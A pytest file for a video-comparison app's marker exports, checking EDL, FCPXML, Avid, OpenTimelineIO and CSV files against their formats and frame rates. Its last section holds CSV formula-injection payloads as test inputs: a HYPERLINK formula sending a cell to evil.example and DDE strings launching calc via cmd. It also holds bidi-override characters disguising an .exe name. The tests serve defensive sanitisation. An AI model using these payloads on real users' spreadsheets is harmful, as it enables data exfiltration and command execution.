"""The marker files checked against their formats, not only read back: the EDL as CMX 3600 the way
DaVinci Resolve writes timeline markers (TITLE, FCM, event lines in their columns, timecode at the
video's own rate, ASCII, lines of at most 80 characters ending CRLF, `* LOC:` locators), FCP7 XML as
Premiere reads it (sequence rate, timecode, markers' in and out), the FCPXML against Apple's FCPXML
1.8 DTD (vendored, see tests/videos/fcpxml/README.md) and what Final Cut needs in it, Avid's marker
text in its six columns, OpenTimelineIO JSON, CSV with a byte order mark; each read back with
OpenTimelineIO's adapter for it at the exact rate. Then people's text: spreadsheet formulas and bidi
controls in every export.

The comparison is the factory's refined row (B 23.4 s); its differences on B start at 0, 5.637, 11
and 18.44 s."""

from __future__ import annotations

import csv
import io
import re
from fractions import Fraction
from pathlib import Path
from urllib.parse import quote

import opentimelineio as otio
import pytest
from django.test import Client
from django.urls import reverse
from lxml import etree

from reviews.comments import comment_create_by_guest
from sage.export_text import csv_table
from tests.factories import ComparisonFactory, ShareLinkFactory, UploadFactory, owner_actor
from videos.compare.markers import MARKER_FILE_TYPES, TimedMarker, comparison_markers_file, write_markers

pytestmark = pytest.mark.django_db

DTD = etree.DTD(str(Path(__file__).parent / "fcpxml" / "FCPXMLv1_8.dtd"))
STARTS_ON_B = [0.0, 5.637, 11.0, 18.44]  # seconds
# (measured fps as stored, the exact rate, whether timecode drops frames)
RATES = [
    (15.0, Fraction(15), False),
    (23.976023976, Fraction(24000, 1001), False),
    (24.0, Fraction(24), False),
    (25.0, Fraction(25), False),
    (29.97002997, Fraction(30000, 1001), True),
]
TIMECODE = r"\d\d:[0-5]\d:[0-5]\d[:;]\d\d"
EVENT_LINE = re.compile(rf"^(\d{{3}})  (.{{8}}) (.{{5}}) C {{8}}({TIMECODE}) ({TIMECODE}) ({TIMECODE}) ({TIMECODE})$")
RESOLVE_LINE = re.compile(r"^(.*) \|C:ResolveColor(\w+) \|M:(.*) \|D:(\d+)$")
LOC_LINE = re.compile(rf"^\* LOC: ({TIMECODE}) (\w+) +(.*)$")
# Final Cut's names for 1920x1080 at each rate it has presets for.
FCP_FORMATS = {
    Fraction(24000, 1001): "FFVideoFormat1080p2398",
    Fraction(24): "FFVideoFormat1080p24",
    Fraction(25): "FFVideoFormat1080p25",
    Fraction(30000, 1001): "FFVideoFormat1080p2997",
}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def markers_url(comparison, file_type: str) -> str:
    return reverse("api-comparison-markers", args=[comparison.pk, file_type])


def frames_of(timecode: str, rate: Fraction, drop_frame: bool) -> int:
    """Counts frames as SMPTE 12M does, written out here to check the file, not borrowed from it."""
    hours, minutes, seconds, frames = (int(part) for part in re.split("[:;]", timecode))
    nominal = round(rate)
    count = ((hours * 60 + minutes) * 60 + seconds) * nominal + frames
    if drop_frame:
        total_minutes = hours * 60 + minutes
        count -= 2 * (total_minutes - total_minutes // 10)
    return count


@pytest.fixture
def comparison():
    row = ComparisonFactory(refined=True)
    row.video_b.width, row.video_b.height, row.video_b.has_audio = 1920, 1080, True
    row.video_b.save()
    UploadFactory(owner=row.owner, video=row.video_b, filename="Walk take 2 (final cut).mp4")
    return row


def with_rate(comparison, fps: float):
    comparison.video_b.fps = fps
    comparison.video_b.save()
    return comparison


@pytest.fixture
def commented(comparison):
    link = ShareLinkFactory(comparison=comparison, permission="comment")
    comment_create_by_guest(
        link=link,
        reviewer_key="k" * 40,
        body="The logo — is “too” big… on the café sign, please make it smaller before we lock the cut; "
        "it covers the actor's face for most of the shot and the client will notice it at once",
        author_name="Zoë",
        side="b",
        start=6.0,
        end=8.0,
    )
    return comparison


# --- EDL: CMX 3600 as Resolve writes markers ------------------------------------------------------


@pytest.mark.parametrize(("fps", "rate", "drop_frame"), RATES)
def test_the_edl_is_cmx_3600_with_each_marker_at_its_frame_at_the_videos_own_rate(
    comparison, fps, rate, drop_frame
) -> None:
    edl = comparison_markers_file(with_rate(comparison, fps), actor=owner_actor(comparison), side="b", file_type="edl")

    # CMX 3600: ASCII lines of at most 80 characters, ending CRLF as editors' tools write them.
    assert edl.endswith("\r\n") and "\n" not in edl.replace("\r\n", "") and "\r" not in edl.replace("\r\n", "")
    lines = edl.split("\r\n")
    assert lines[0] == f"TITLE: SAGE comparison {comparison.pk} - markers on B: Refined B"
    assert lines[1] == ("FCM: DROP FRAME" if drop_frame else "FCM: NON-DROP FRAME")
    assert edl.isascii() and max(len(line) for line in lines) <= 80
    # Every line but the header is an event, a comment (`* `), Resolve's marker line or blank.
    assert all(EVENT_LINE.match(line) or line.startswith(("* ", " |C:")) or not line for line in lines[2:])
    events = [EVENT_LINE.match(line) for line in lines if line[:1].isdigit()]
    assert all(events) and len(events) == len(STARTS_ON_B)
    one_hour = frames_of("01:00:00:00", rate, drop_frame)
    starts = []
    for number, event in enumerate(events, start=1):
        assert event is not None
        event_number, reel, channel, source_in, source_out, record_in, record_out = event.groups()
        assert (int(event_number), reel.strip(), channel.strip()) == (number, "001", "V")
        assert (source_in, source_out) == (record_in, record_out)
        for timecode in (record_in, record_out):
            assert (";" in timecode) == drop_frame and int(timecode[-2:]) < round(rate)
        assert frames_of(record_out, rate, drop_frame) - frames_of(record_in, rate, drop_frame) == 1
        starts.append(frames_of(record_in, rate, drop_frame) - one_hour)
    assert starts == [round(seconds * rate) for seconds in STARTS_ON_B]
    # The line after each event: Resolve's note, colour, name and length in frames.
    described = [RESOLVE_LINE.match(lines[index + 1]) for index, line in enumerate(lines) if line[:1].isdigit()]
    assert [(match.group(2), match.group(3)) for match in described if match] == [
        ("Yellow", "1. Only in B"),
        ("Blue", "2. Picture differs (low)"),
        ("Yellow", "3. Only in B"),
        ("Purple", "4. Picture and sound differ (high)"),
    ]
    assert [int(match.group(4)) for match in described if match] == [
        round(1.4 * rate),
        round(8.337 * rate) - round(5.637 * rate),
        round(13 * rate) - round(11 * rate),
        round(20.94 * rate) - round(18.44 * rate),
    ]
    # Then each marker's locator, at the event's own timecode, in one of Avid's colours.
    locators = [LOC_LINE.match(lines[index + 2]) for index, line in enumerate(lines) if line[:1].isdigit()]
    assert [(match.group(1), match.group(2), match.group(3)) for match in locators if match] == [
        (event.group(6), colour, name)
        for event, (colour, name) in zip(
            events,
            [
                ("YELLOW", "1. Only in B"),
                ("BLUE", "2. Picture differs (low)"),
                ("YELLOW", "3. Only in B"),
                ("MAGENTA", "4. Picture and sound differ (high)"),
            ],
            strict=True,
        )
        if event
    ]


@pytest.mark.parametrize(("fps", "rate", "drop_frame"), [row for row in RATES if row[0] != 15.0])
def test_the_edl_reads_back_in_opentimelineio_at_the_exact_rate(comparison, fps, rate, drop_frame) -> None:
    # OpenTimelineIO's timecode knows the SMPTE rates only (not 15 fps: the test above checks that
    # file's timecode by counting).
    edl = comparison_markers_file(with_rate(comparison, fps), actor=owner_actor(comparison), side="b", file_type="edl")

    timeline = otio.adapters.read_from_string(edl, "cmx_3600", rate=float(rate))
    one_hour = otio.opentime.from_timecode("01:00:00;00" if drop_frame else "01:00:00:00", float(rate)).value
    clips = list(timeline.find_clips())
    assert [round(clip.source_range.start_time.value - one_hour) for clip in clips] == [
        round(seconds * rate) for seconds in STARTS_ON_B
    ]
    assert all(clip.source_range.duration.value == 1 for clip in clips)
    assert "|M:2. Picture differs (low)" in clips[1].metadata["cmx_3600"]["comments"][0]
    if drop_frame:
        # OTIO's reader takes a locator's timecode as HH:MM:SS:FF only: it skips the drop-frame
        # `HH:MM:SS;FF` ones (the events above carry the frames).
        assert all(not clip.markers for clip in clips)
        return
    # Every marker, from its `* LOC:` line: its name, frame (the event's) and colour.
    markers = [marker for clip in clips for marker in clip.markers]
    assert [(marker.name, marker.color) for marker in markers] == [
        ("1. Only in B", "YELLOW"),
        ("2. Picture differs (low)", "BLUE"),
        ("3. Only in B", "YELLOW"),
        ("4. Picture and sound differ (high)", "MAGENTA"),
    ]
    assert [round(marker.marked_range.start_time.value - one_hour) for marker in markers] == [
        round(seconds * rate) for seconds in STARTS_ON_B
    ]


def test_the_edl_starts_at_the_timecode_asked_for(comparison) -> None:
    client = client_for(comparison.owner)

    default = client.get(markers_url(comparison, "edl")).content.decode()
    at_ten = client.get(markers_url(comparison, "edl"), {"start_timecode": "10:00:00:00"}).content.decode()
    at_zero = client.get(markers_url(comparison, "edl"), {"start_timecode": "00:00:00:00"}).content.decode()
    refused = client.get(markers_url(comparison, "edl"), {"start_timecode": "01:00:00:25"})  # 25 fps: 00-24

    assert "001  001      V     C        01:00:00:00 01:00:00:01" in default
    assert "002  001      V     C        01:00:05:16 01:00:05:17" in default
    assert "002  001      V     C        10:00:05:16 10:00:05:17" in at_ten
    assert "002  001      V     C        00:00:05:16 00:00:05:17" in at_zero
    assert refused.status_code == 400 and "start_timecode" in refused.json()["error"]["fields"]


def test_at_29_97_an_hour_typed_plainly_is_the_drop_frame_hour(comparison) -> None:
    with_rate(comparison, 29.97002997)

    edl = client_for(comparison.owner).get(markers_url(comparison, "edl"), {"start_timecode": "01:00:00:00"})

    assert "001  001      V     C        01:00:00;00 01:00:00;01" in edl.content.decode()


def test_the_page_offers_the_start_timecode_for_the_marker_files(comparison) -> None:
    html = client_for(comparison.owner).get(reverse("compare:comparison", args=[comparison.pk])).content.decode()

    field = re.search(r'<input id="marker-start-timecode" type="text" name="start_timecode" value="([^"]*)"', html)
    assert field and field.group(1) == "01:00:00:00"
    assert f'formaction="/api/v1/comparisons/{comparison.pk}/markers.edl"' in html


def test_an_edl_note_is_ascii_cut_short_and_not_repeated_in_the_name(commented) -> None:
    edl = comparison_markers_file(
        commented, actor=owner_actor(commented), side="b", file_type="edl", include=("comments",)
    )

    [line] = [line for line in edl.split("\r\n") if "|M:" in line]
    match = RESOLVE_LINE.match(line)
    assert match
    _, colour, name, _ = match.groups()
    note = " ".join(line.removeprefix("* COMMENT: ") for line in edl.split("\r\n") if line.startswith("* COMMENT: "))
    assert note.startswith('The logo - is "too" big... on the cafe sign, please make it smaller')
    assert note.endswith("...") and len(note) <= 120
    assert (name, colour) == ("Comment: Zoe", "Sand")
    assert edl.isascii()
    # The whole text, once, in the files that hold it.
    csv_file = comparison_markers_file(
        commented, actor=owner_actor(commented), side="b", file_type="csv", include=("comments",)
    )
    [row] = csv.DictReader(io.StringIO(csv_file.removeprefix("\ufeff")))
    assert row["name"] == "Comment: Zoë" and row["note"].startswith("The logo — is “too” big…")
    assert row["note"].endswith("the client will notice it at once")


# --- FCPXML: Apple's DTD and what Final Cut needs --------------------------------------------------


@pytest.mark.parametrize(("fps", "rate", "drop_frame"), RATES)
def test_the_fcpxml_is_valid_fcpxml_1_8_for_the_uploaded_file_at_its_rate(comparison, fps, rate, drop_frame) -> None:
    fcpxml = comparison_markers_file(
        with_rate(comparison, fps), actor=owner_actor(comparison), side="b", file_type="fcpxml"
    )

    document = etree.fromstring(fcpxml.encode())
    assert DTD.validate(document), DTD.error_log.filter_from_errors()
    assert document.get("version") == "1.8"
    [media_format] = document.iter("format")
    frame = 1 / rate
    assert media_format.get("frameDuration") == f"{frame.numerator}/{frame.denominator}s"
    assert (media_format.get("width"), media_format.get("height")) == ("1920", "1080")
    # A name Final Cut has for the format, or none (a custom format) at a rate it has no preset for.
    assert media_format.get("name") == (None if fps == 15.0 else FCP_FORMATS[rate])
    [asset] = document.iter("asset")
    # A `file:` URL (the DTD's `src`), relative: the uploaded file's name, URL-encoded.
    assert asset.get("src") == "file:./" + quote("Walk take 2 (final cut).mp4")
    assert asset.get("src") == "file:./Walk%20take%202%20%28final%20cut%29.mp4"
    assert (asset.get("hasAudio"), asset.get("hasVideo")) == ("1", "1")
    [project] = document.iter("project")
    assert project.get("name") == f"SAGE comparison {comparison.pk} - markers on B: Refined B"
    assert re.fullmatch(r"[0-9A-F]{8}(-[0-9A-F]{4}){3}-[0-9A-F]{12}", project.get("uid", ""))
    [sequence] = document.iter("sequence")
    assert sequence.get("tcFormat") == ("DF" if drop_frame else "NDF")
    one_hour = frames_of("01:00:00:00", rate, drop_frame) * frame
    assert Fraction(sequence.get("tcStart", "").removesuffix("s")) == one_hour
    # Each marker on a whole frame at the rate; OpenTimelineIO reads them back at it.
    starts = [Fraction(marker.get("start").removesuffix("s")) * rate for marker in document.iter("marker")]
    assert starts == [round(seconds * rate) for seconds in STARTS_ON_B]
    if rate.denominator == 1:
        # OpenTimelineIO's FCPXML reader counts whole frames a second (`int(fps)`: 29.97 reads as 29),
        # so it reads back exactly at whole rates only; NTSC times are checked in the XML above.
        [clip] = otio.adapters.read_from_string(fcpxml, "fcpx_xml").find_clips()
        assert [marker.marked_range.start_time.value for marker in clip.markers] == starts
        assert clip.markers[0].marked_range.start_time.rate == rate


def test_a_video_without_sound_is_an_asset_without_audio(comparison) -> None:
    comparison.video_b.has_audio = False
    comparison.video_b.save()

    fcpxml = comparison_markers_file(comparison, actor=owner_actor(comparison), side="b", file_type="fcpxml")

    [asset] = etree.fromstring(fcpxml.encode()).iter("asset")
    assert asset.get("hasAudio") == "0"


# --- people's text in every export ------------------------------------------------------------------


def test_a_guests_formula_reaches_the_owners_csv_files_as_text(comparison) -> None:
    link = ShareLinkFactory(comparison=comparison, permission="comment")
    for body in (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"):
        comment_create_by_guest(link=link, reviewer_key="k" * 40, body=body, author_name="=Eve", side="b", start=3.0)
    client = client_for(comparison.owner)

    report = client.get(reverse("api-comparison-export", kwargs={"comparison_id": comparison.pk, "file_type": "csv"}))
    markers = client.get(markers_url(comparison, "csv"), {"include": "comments"})

    rows = [row for row in csv.DictReader(io.StringIO(report.content.decode())) if row["record"] == "comment"]
    assert [row["body"] for row in rows] == [
        "'" + FORMULA,
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    assert {row["author_name"] for row in rows} == {"'=Eve"}
    notes = [row["note"] for row in csv.DictReader(io.StringIO(markers.content.decode("utf-8-sig")))]
    assert notes[0] == "'" + FORMULA
    assert all(note.startswith("'") for note in notes)


def test_a_csv_cell_is_neutralised_only_where_a_spreadsheet_would_run_it() -> None:
    table = csv_table(
        ["body", "lag"],
        [
            {"body": "\tcmd", "lag": -0.4},
            {"body": "\r=1", "lag": -3},
            {"body": "a = b - c", "lag": 0.25},
        ],
    )

    rows = list(csv.reader(io.StringIO(table)))
    assert rows[1:] == [["'\tcmd", "-0.4"], ["'\r=1", "-3"], ["a = b - c", "0.25"]]


def test_bidi_controls_in_a_comment_reach_no_export(comparison) -> None:
    link = ShareLinkFactory(comparison=comparison, permission="comment")
    comment_create_by_guest(
        link=link,
        reviewer_key="k" * 40,
        body="Cut at \u202eelif.exe\u202c and \u2066here\u2069 \u202a\u202b\u202d\u2067\u2068",
        author_name="Mallory",
        side="b",
        start=4.0,
    )
    client = client_for(comparison.owner)
    report = client.get(reverse("api-comparison-export", kwargs={"comparison_id": comparison.pk, "file_type": "csv"}))

    files = [
        comparison_markers_file(comparison, actor=owner_actor(comparison), side="b", file_type=kind)
        for kind in MARKER_FILE_TYPES
    ]

    for text in [*files, report.content.decode()]:
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", text)
        assert "Cut at elif.exe and here" in text


def test_markers_on_one_frame_each_keep_a_frame_of_their_own_in_the_edl(comparison) -> None:
    # Resolve holds one marker a frame: a second marker on a taken frame moves to the next free one.
    same_moment = [
        TimedMarker(side="b", start=2.0, end=2.0, name=name, note="", colour="BLUE") for name in ("x", "y", "z")
    ]

    edl = write_markers(video=comparison.video_b, side="b", name="B", markers=same_moment, file_type="edl")

    record_ins = [match.group(6) for match in map(EVENT_LINE.match, edl.split("\r\n")) if match]
    assert record_ins == ["01:00:02:00", "01:00:02:01", "01:00:02:02"]
    assert " |C:ResolveColorBlue |M:y |D:1" in edl.split("\r\n")
